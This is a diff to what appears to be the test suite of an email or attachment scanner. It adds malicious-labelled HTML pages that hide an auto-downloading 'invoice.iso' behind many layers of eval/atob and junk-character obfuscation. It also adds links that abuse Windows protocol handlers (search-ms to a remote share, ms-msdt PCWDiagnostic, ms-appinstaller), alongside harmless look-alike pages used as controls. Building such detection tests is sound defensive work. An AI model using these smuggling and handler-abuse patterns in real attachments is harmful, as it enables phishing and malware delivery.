@@ -39,9 +39,14 @@ def cases() -> Iterator[Case]:
         yield Case(f"markup/svg-zip/{name}", 33, attached(b"logos.zip", zipped("logo.svg", image.encode())), POLICY)
     for name, message in _laced():
         yield Case(f"markup/laced/{name}", 34, message, POLICY)
+    for name, page in handed_over().items():
+        yield Case(f"markup/handed-over/{name}", 33, attached(b"invoice.html", page.encode(), b"text/html"), POLICY)
+        yield Case(f"markup/handed-over-body/{name}", 33, _body(page.encode(), b"utf-8"), POLICY)
     for name, page in harmless_pages().items():
         yield Case(f"markup/harmless/{name}", 33, attached(b"report.html", page.encode(), b"text/html"), HARMLESS)
         yield Case(f"markup/harmless-body/{name}", 33, _body(page.encode(), b"utf-8"), HARMLESS)
+    for name, page in portals().items():
+        yield Case(f"markup/portal/{name}", 33, attached(b"SecureMessage.html", page.encode(), b"text/html"), HARMLESS)
     for name, image in harmless_images().items():
         yield Case(f"markup/harmless-svg/{name}", 33, attached(b"logo.svg", image.encode(), b"image/svg+xml"), HARMLESS)
 
@@ -112,8 +117,43 @@ WRAPPINGS: dict[str, Callable[[str], str]] = {
     "json": lambda s: f"</script><script type='application/json' id=j>{{\"c\":\"{_coded(s)}\"}}</script><script>eval(atob(JSON.parse(j.text).c))",
     "style": lambda s: f"</script><style id=s>:root{{--c:{_coded(s)}}}</style><script>eval(atob(getComputedStyle(document.body).getPropertyValue('--c')))",
     "comment": lambda s: f"</script><!--{_coded(s)}--><script>eval(atob(document.childNodes[0].data))",
+    "marked-percent": lambda s: f"document.write(unescape('{_percent(f'<script>{s}</script>').replace('%', '@')}'.replace(/@/g,'%')))",
+    "junk-split": lambda s: f"eval(atob('{_strewn(_coded(s), 'zq')}'.split('zq').join('')))",
+    "junk-replaced": lambda s: f"eval(atob('{_strewn(_coded(s), '@#')}'.replaceAll('@#','')))",
+    "junk-by-class": lambda s: f"eval(atob('{_strewn(_coded(s), '!?')}'.replace(/[!?]/g,'')))",
+    "junk-by-others": lambda s: f"eval(atob('{_strewn(_coded(s), '!?')}'.replace(/[^A-Za-z0-9+/=]/g,'')))",
+    "junk-in-page": lambda s: f"</script><p id=h hidden>{_strewn(_coded(s), '~~')}</p><script>eval(atob(h.innerText['split']('~~')['join']('')))",
+    "junk-in-code": lambda s: f"eval('{_strewn(s.replace(chr(39), chr(34)), '#')}'.split('#').join(''))",
+    "junk-written": lambda s: f"document.body.innerHTML=atob('{_strewn(_coded(f'<script>{s}</script>'), '!')}'.split('!').join(''))",
+    "added-to": lambda s: "var p='" + "';p+='".join(_coded(s)[i : i + 40] for i in range(0, len(_coded(s)), 40)) + "';eval(atob(p))",
+    "base-36": lambda s: f"eval('{' '.join(_digits(ord(c), 36) for c in s)}'.split(' ').map(v=>String.fromCharCode(parseInt(v,36))).join(''))",
+    "base-2": lambda s: f"eval('{' '.join(_digits(ord(c), 2) for c in s)}'.split(' ').map(v=>String.fromCharCode(parseInt(v,2))).join(''))",
+    "bits": lambda s: f"eval('{''.join(_digits(ord(c), 2).zfill(8) for c in s)}'.match(/.{{8}}/g).map(v=>String.fromCharCode(parseInt(v,2))).join(''))",
+    "octal-numbers": lambda s: f"eval('{','.join(_digits(ord(c), 8) for c in s)}'.split(',').map(v=>String.fromCharCode(parseInt(v,8))).join(''))",
+    "hex-letters": lambda s: f"eval('{'zz'.join(_digits(ord(c), 16) for c in s)}'.split('zz').map(v=>String.fromCharCode(parseInt(v,16))).join(''))",
     "hidden-input": lambda s: f"</script><input type=hidden id=h value={_coded(s)}><script>eval(atob(h.value))",
 }  # a case a line # fmt: skip
+
+
+def _strewn(text: str, junk: str, step: int = 5) -> str:
+    return junk.join(text[i : i + step] for i in range(0, len(text), step))
+
+
+def _digits(number: int, base: int) -> str:
+    digit = "0123456789abcdefghijklmnopqrstuvwxyz"[number % base]
+    return _digits(number // base, base) + digit if number >= base else digit
+
+
+def _calling(script: str, name: Callable[[str], str]) -> str:
+    """The script with the names of all that it calls put together by others."""
+    for word in ("createElement", "createObjectURL", "charCodeAt", "click"):
+        script = script.replace(f".{word}(", f"[{name(word)}](")
+    for word in ("atob", "Uint8Array", "Blob"):
+        script = script.replace(f"new {word}(", f"new window[{name(word)}](").replace(
+            f"={word}(", f"=window[{name(word)}]("
+        )
+    return script.replace("URL[", f"window[{name('URL')}][")
+
 
 WORDS: dict[str, Callable[[str], str]] = {
     "joined": lambda s: s.replace("URL.createObjectURL", "URL['create'+'Object'+'URL']").replace("atob(", "window['a'+'tob'](").replace("a.download=", "a['down'+\"load\"]="),
@@ -131,6 +171,13 @@ WORDS: dict[str, Callable[[str], str]] = {
     "reversed-names": lambda s: s.replace("URL.createObjectURL", "URL['LRUtcejbOetaerc'.split('').reverse().join('')]"),
     "set-attribute": lambda s: s.replace("a.href=URL.createObjectURL(new Blob([u]));a.download='invoice.iso'", "a.setAttribute('href','data:application/octet-stream;base64,'+btoa(b));a.setAttribute('down'+'load','invoice.iso')"),
     "data-template": lambda s: s.replace("a.href=URL.createObjectURL(new Blob([u]))", "a.href=`data:application/octet-stream;base64,${btoa(b)}`"),
+    "junk-split": lambda s: _calling(s, lambda w: f"'{_strewn(w, '#', 1)}'.split('#').join('')"),
+    "junk-replaced": lambda s: _calling(s, lambda w: f"'{_strewn(w, '7', 2)}'.replace(/\\d/g,'')"),
+    "junk-by-expression": lambda s: _calling(s, lambda w: f"'{_strewn(w, '~', 2)}'.replace(new RegExp('~','g'),'')"),
+    "junk-by-function": lambda s: "function k(s){return s.split('zq').join('')}" + _calling(s, lambda w: f"k('{_strewn(w, 'zq', 2)}')"),
+    "junk-escaped": lambda s: _calling(s, lambda w: f"'{_strewn(w, chr(92) + 'u200b', 1)}'.split('\\u200b').join('')"),
+    "other-letters": lambda s: _calling(s, lambda w: f"'{w.replace('e', 'Q')}'.replace(/Q/g,'e')"),
+    "reader": lambda s: s.replace("a.href=URL.createObjectURL(new Blob([u]));a.download='invoice.iso';a.click();", "var r=new FileReader();r.onload=()=>location=r.result;r.readAsDataURL(new Blob([u]));"),
     "microsoft": lambda s: s.replace("a.href=URL.createObjectURL(new Blob([u]));", "navigator.msSaveOrOpenBlob(new Blob([u]),'invoice.iso');"),
     "other-array": lambda s: s.replace("Uint8Array", "Int8Array").replace("atob(", "decode("),
     "data-view": lambda s: s.replace("new Uint8Array(b.length)", "new DataView(new ArrayBuffer(b.length))").replace("atob(", "decode("),
@@ -162,6 +209,38 @@ def pages() -> dict[str, str]:
         f"var k=7,t='';var d=atob('{base64.b64encode(SECRET).decode()}');for(i in d)t+=String.fromCharCode(d.charCodeAt(i)^k);eval(t)"
     )
     found |= _carrying()
+    found |= _addressing()
+    return found
+
+
+def _addressing() -> dict[str, str]:
+    """Pages whose script makes an address of what it has altered, or calls what it works out the name of."""
+    secret = base64.b64encode(SECRET).decode()
+    junk = _strewn(secret, "zq")
+    found = {
+        "address/split": _page(f"location='data:application/zip;base64,'+'{junk}'.split('zq').join('')"),
+        "address/replaced": _page(f"location='data:application/zip;base64,{_strewn(secret, '@')}'.replace(/@/g,'')"),
+        "address/apart": _page(
+            f"var h='data:application/zip;base64,';var p='{junk}'.split('zq').join('');location=h+p"
+        ),
+        "address/reversed": _page(f"open('data:;base64,'+'{secret[::-1]}'.split('').reverse().join(''))"),
+        "address/frame": _page(
+            f"f.src='data:application/zip;base64,{_strewn(secret, '@')}'['replace'](/@/g,'')",
+            body="<iframe id=f></iframe>",
+        ),
+        "address/added": _page(f"var p='{secret}';location='data:application/zip;base64,AAAA'+p"),
+    }
+    shifted = "".join(chr(33 + (c * 7 + n * 3) % 90) for n, c in enumerate(SECRET * 4))
+    shifted = "".join(c for c in shifted if c not in "\"'`<>\\&%")
+    letters = "var K='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';"
+    names: dict[str, Callable[[str], str]] = {
+        "by-function": lambda w: "k('" + "".join(chr(ord(c) + 1) for c in w) + "')",
+        "by-numbers": lambda w: f"k({[ord(c) + 5 for c in w]})",
+        "by-letters": lambda w: "+".join(f"K[{letters.index(c) - 7}]" for c in w),
+    }
+    for name, spell in names.items():
+        found[f"called/{name}"] = _page(f"{letters}var s='{shifted}';" + _calling(SAVING.replace(secret, "s"), spell))
+    found["shifted"] = _page(f"var s='{shifted}',t='';for(i in s)t+=String.fromCharCode(s.charCodeAt(i)-9);eval(t)")
     return found
 
 
@@ -213,6 +292,22 @@ def _carrying() -> dict[str, str]:
         "var t=new Blob(['MsgBox 1']);a.href=URL.createObjectURL(t);a.download='run.vbs'"
     )
     return found
+
+
+def handed_over() -> dict[str, str]:
+    """Pages with an address that Windows hands to a program."""
+    search = "search-ms:query=invoice&crumb=location:%5C%5C192.0.2.9%5Cs"
+    return {
+        "link": f'<html><a href="{search}">open</a></html>',
+        "bare": f"<html><a href={search}>open</a></html>",
+        "broken": '<html><a href="sea\trch-\nms:query=x">open</a></html>',
+        "spelled": '<html><a href="&#115;earch-ms&colon;query=x">open</a></html>',
+        "frame": f'<html><iframe src="{search}"></iframe></html>',
+        "refresh": f'<html><meta http-equiv="refresh" content="0;url={search}"></html>',
+        "form": "<html><form action='ms-officecmd:{}'></form></html>",
+        "script": _page("window.location.href = 'ms-msdt:/id PCWDiagnostic'"),
+        "opened": _page('window.open("ms-appinstaller:?source=https://x.example/a.msix")'),
+    }
 
 
 def images() -> dict[str, str]:
@@ -336,6 +431,14 @@ def harmless_pages() -> dict[str, str]:
         "old-analytics": _page(
             "var h=(('https:'==document.location.protocol)?'https://ssl.':'http://www.');document.write(unescape(\"%3Cscript src='\"+h+\"example.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));"
         ),
+        "ramp": _page(
+            "var f=new Function('d','return d.x');var c=s.charCodeAt(0),v=[].reverse();var r=colours('"
+            + "".join(
+                f"{68 + n * 185 // 255:02x}{1 + n * 230 // 255:02x}{abs(84 + n - n * n // 200) % 256:02x}"
+                for n in range(256)
+            )
+            + "')"
+        ),
         "hidden-address": _page(
             "document.write('<a href=\"mailto:'+String.fromCharCode(105,110,102,111,64,101,120,97,109,112,108,101,46,111,114,103)+'\">write</a>')"
         ),
@@ -364,7 +467,60 @@ def harmless_pages() -> dict[str, str]:
         "outlook": '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15"><!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--><style>@font-face{font-family:Calibri}p.MsoNormal{margin:0cm}</style></head><body lang=DE link="#0563C1"><p class=MsoNormal>Gr&uuml;&szlig;e&nbsp;&#8211; Ann<o:p></o:p></p></body></html>',
         "code-shown": "<html><pre>&lt;script&gt;a.href=URL.createObjectURL(new Blob([atob(x)]));&lt;/script&gt; and &lt;a download&gt;</pre></html>",
         "control": "<html><body>one\x01two\0three</body></html>",
+        "junk/numbers": _page(
+            jquery
+            + f"eval('1');var d={[n * 37 for n in range(600)]},s='{','.join(f'{n},{n % 97:03d}' for n in range(9000, 9600))}';"
+            "function n(t){return +t.replace(/,/g,'').replace(/[^0-9]/g,'')}"
+        ),
+        "junk/identifiers": _page(
+            jquery
+            + "eval('1');var s='"
+            + "|".join(f"SKU-{n * 7919 % 99991:05d}" for n in range(600))
+            + "'.split('|').join(' ');"
+        ),
+        "junk/outline": _page(
+            jquery + "eval('1');t.replace(/-/g,' ')",
+            body='<svg><path d="' + "".join(f"M{n} {n * 3 % 97}.5L{n % 31},-{n}z" for n in range(400)) + '"/></svg>',
+        ),
+        "junk/greek": _page(jquery + "eval('1');var t='" + "τοέγγραφοείναιέτοιμο" * 60 + "';t.split(' ').join('')"),
+        "preview": _page(
+            jquery
+            + "i.onchange=function(){var r=new FileReader();r.onload=function(){p.src=r.result};r.readAsDataURL(i.files[0])}",
+            body="<input type=file id=i><img id=p>",
+        ),
+        "own-address": _page(
+            f"var t=atob('data:text/csv;base64,{csv}'.split(',')[1]);document.getElementById('t').innerText=t",
+            body="<pre id=t></pre>",
+        ),
+        "escaped-page": _page(f"document.write(unescape('{quote('<p>' + table + '</p>', safe='')}'))"),
+        "handler-shown": "<html><p>Attacks with <code>search-ms:query=x</code> and 'ms-msdt:/id' links</p><a href='https://www.example.com/?q=search-ms:'>more</a></html>",
+        "void": "<html><a href='javascript:void(0)' onclick='print()'>Print</a><a href=\"ms-word:ofe|u|https://x.sharepoint.com/a.docx\">Open</a></html>",
+        "fields": "<html><body><!--[if supportFields]><span style='mso-element:field-begin'></span> HYPERLINK &quot;https://www.example.com/&quot;<span style='mso-element:field-separator'></span><![endif]-->DDE, explained<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]--></body></html>",
+        "parsed": _page("function c(h){return parseInt(h.slice(1,3),16)+parseInt(h,36)}var t='" + "a1b2c3;" * 40 + "'"),
         "json-ld": '<html><script type="application/ld+json">{"@context":"http://schema.org","@type":"Order","url":"https://www.example.com/"}</script></html>',
+    }
+
+
+def portals() -> dict[str, str]:
+    """Envelopes of services for encrypted mail: a page with the sealed message, which a form sends to the service."""
+    sealed = base64.b64encode(random.Random(_SEED).randbytes(6_000)).decode()
+    lines = "\n".join(sealed[at : at + 76] for at in range(0, len(sealed), 76))
+    form = '<form id="f" name="f" method="post" enctype="multipart/form-data" action="https://secure.example.com/open">'
+    return {
+        "submitted": f"<html><body onload='document.f.submit()'>{form}<input type=hidden name=msg value='{sealed}'></form></body></html>",
+        "asked": f"<html><body>{form}<textarea name=msg style='display:none'>{lines}</textarea><input type=submit value='Read the message'></form>"
+        "<script>var d=new Date();document.f.action=document.f.action.replace(/&/g,'&amp;')+'?tz='+d.getTimezoneOffset();"
+        "if(navigator.userAgent.indexOf('MSIE')>0){document.write('<p>'+'Please save this file first'+'</p>')}</script></body></html>",
+        "in-pieces": f"<html><body>{form}"
+        + "".join(
+            f"<input type=hidden name=p{at} value='{sealed[at : at + 1000]}'>" for at in range(0, len(sealed), 1000)
+        )
+        + "<input name=email value='ann@example.net'><input type=password name=w></form>"
+        "<script>function go(){var a=document.f.email.value.split('@').join(' at ').replace(/\\s/g,'');"
+        "if(!a){alert('Your address, please');return false}document.f.target='_blank';window.open('https://secure.example.com/help','h')}</script></body></html>",
+        "framed": f"<html><body><iframe name=t src='about:blank'></iframe>{form}<input type=hidden name=blob value='{sealed}'></form>"
+        "<script>var f=document.createElement('input');f.type='hidden';f.name='lang';f.value=(navigator.language||'en').split('-')[0];"
+        "document.getElementById('f').appendChild(f);document.getElementById('f').target='t';document.getElementById('f').submit()</script></body></html>",
     }
 
 
